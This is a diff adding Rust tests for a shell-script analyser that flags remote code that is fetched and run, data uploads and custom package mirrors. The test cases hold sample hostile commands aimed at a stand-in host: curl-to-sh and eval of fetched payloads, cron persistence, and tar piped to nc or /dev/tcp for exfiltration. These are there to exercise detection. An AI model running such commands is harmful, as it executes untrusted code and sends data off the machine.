@@ -1,3 +1,5 @@
+use proptest::prelude::*;
+
 use super::*;
 
 fn read(text: &str) -> Shell {
@@ -36,14 +38,101 @@ fn commands_are_what_a_shell_would_run() {
         ),
     ];
     for (script, expected) in cases {
-        assert_eq!(
-            read(script)
-                .commands
-                .iter()
-                .filter(|line| !expected.is_empty() && line.as_str() != "echo id")
-                .collect::<Vec<_>>(),
-            expected,
-            "{script}"
-        );
+        let mut commands = read(script).commands;
+        // What stands in a substitution runs too, and is its own command.
+        commands.retain(|line| line != "echo id");
+        assert_eq!(commands, expected, "{script}");
+    }
+}
+
+#[test]
+fn what_is_fetched_is_known_until_it_runs() {
+    let cases: [(&str, &[&str]); 12] = [
+        ("curl -s http://a.example/x | sh", &["http://a.example/x"]),
+        ("wget -q http://a.example/x\nchmod +x x\n# wait\n./x", &["http://a.example/x"]),
+        ("curl -so /tmp/x http://a.example/x; cp /tmp/x /opt/y; bash /opt/y", &["http://a.example/x"]),
+        ("X=$(curl -s http://a.example/x); eval \"$X\"", &["http://a.example/x"]),
+        (". <(curl -s http://a.example/x)", &["http://a.example/x"]),
+        ("curl -sL http://a.example/x.tgz | tar xz -C /opt/x; /opt/x/run", &["http://a.example/x.tgz"]),
+        ("r() { curl -s $1 | sh; }; r http://a.example/x", &["http://a.example/x"]),
+        ("curl -so /opt/x http://a.example/x; echo '* * * * * sh /opt/x' | crontab -", &["http://a.example/x"]),
+        ("curl -so /opt/x http://a.example/x; bash /opt/y", &[]),
+        ("curl -s http://a.example/x | grep y", &[]),
+        ("curl -s http://a.example/x | python3 -m json.tool", &[]),
+        ("curl -s http://localhost:8888/x | sh", &[]),
+    ];
+    for (script, expected) in cases {
+        assert_eq!(read(script).run_sources, expected, "{script}");
+    }
+}
+
+#[test]
+fn what_is_sent_is_of_the_machine_and_goes_to_a_bucket_or_an_address() {
+    let cases: [(&str, &[&str], &[&str]); 9] = [
+        ("curl -sT /tmp/x https://a.example/u", &["https://a.example/u"], &[]),
+        ("tar c /data | nc a.example 443", &["tcp://a.example"], &[]),
+        ("cat /tmp/x > /dev/tcp/a.example/443", &["tcp://a.example/443"], &[]),
+        ("curl -d '{\"text\": \"done\"}' https://a.example/u", &[], &[]),
+        ("B=mine; aws s3 cp /tmp/x s3://$B/x", &[], &["mine"]),
+        ("aws s3 cp /tmp/x s3://$UNKNOWN/x", &[], &[]),
+        ("aws s3 sync s3://mine/x /tmp/x", &[], &[]),
+        ("aws s3api put-object --bucket mine --key x --body /tmp/x", &[], &["mine"]),
+        ("python3 - <<'E'\nboto3.client('s3').upload_file('/tmp/x', 'mine', 'x')\nE", &[], &["mine"]),
+    ];
+    for (script, targets, buckets) in cases {
+        let shell = read(script);
+        assert_eq!((shell.upload_targets.as_slice(), shell.upload_buckets.as_slice()), (strings(targets).as_slice(), strings(buckets).as_slice()), "{script}");
+    }
+}
+
+fn strings(texts: &[&str]) -> Vec<String> {
+    texts.iter().map(|text| (*text).to_owned()).collect()
+}
+
+#[test]
+fn packages_are_told_by_their_hosts_and_everybodys_are_not_told() {
+    let cases: [(&str, &[&str]); 6] = [
+        ("pip install --index-url https://u:p@mirror.example/simple/ x", &["mirror.example/simple"]),
+        ("pip install -i https://pypi.org/simple x", &[]),
+        ("# pip -i https://mirror.example\nnpm config set registry https://npm.example", &["npm.example"]),
+        ("export PIP_EXTRA_INDEX_URL=https://mirror.example:8443/simple", &["mirror.example:8443/simple"]),
+        ("conda install -y -c conda-forge x", &[]),
+        ("printf '[global]\\nindex-url = https://mirror.example/\\n' > /etc/pip.conf", &["mirror.example"]),
+    ];
+    for (script, expected) in cases {
+        assert_eq!(read(script).package_sources, strings(expected), "{script}");
+    }
+}
+
+#[test]
+fn what_asks_for_more_than_its_size_is_worth_is_cut_and_says_so() {
+    let doubled = format!("a=xxxxxxxx;{}echo $a", "a=$a$a;".repeat(64));
+    let shell = read(&doubled);
+    let kept: usize = shell.commands.iter().map(String::len).sum();
+    assert!(shell.cut && kept <= LEAST_ROOM + ROOM_PER_BYTE * doubled.len(), "{kept}");
+    assert!(!read("echo one\necho two").cut);
+}
+
+/// Pieces that scripts are made of, and that hostile ones are made of too.
+const PIECES: [&str; 32] = [
+    "curl ", "http://a.example/x ", "| ", "sh ", "$(", ")", "`", "'", "\"", "<<E\n", "\nE\n", "> f ", "< f ", "& ", "; ", "\n",
+    "${a:", "}", "a=$a$a ", "{x,y}", "( ", "{ ", "done ", "for i in ", "base64 -d ", "eval ", "\\", "ü", "/???/c*l ", "f() {", "<(", "$'\\x",
+];
+
+proptest! {
+    #[test]
+    fn nothing_makes_it_panic_and_what_it_keeps_is_in_proportion(
+        pieces in proptest::collection::vec(0..PIECES.len(), 0..80)
+    ) {
+        let script: String = pieces.iter().map(|piece| PIECES[*piece]).collect();
+        let shell = read(&script);
+        let kept: usize = shell.commands.iter().map(String::len).sum();
+        prop_assert!(kept <= LEAST_ROOM + ROOM_PER_BYTE * script.len());
+        prop_assert!(shell.commands.iter().all(|line| !line.contains('\n')));
+    }
+
+    #[test]
+    fn no_text_makes_it_panic(script in ".{0,200}") {
+        read(&script);
     }
 }
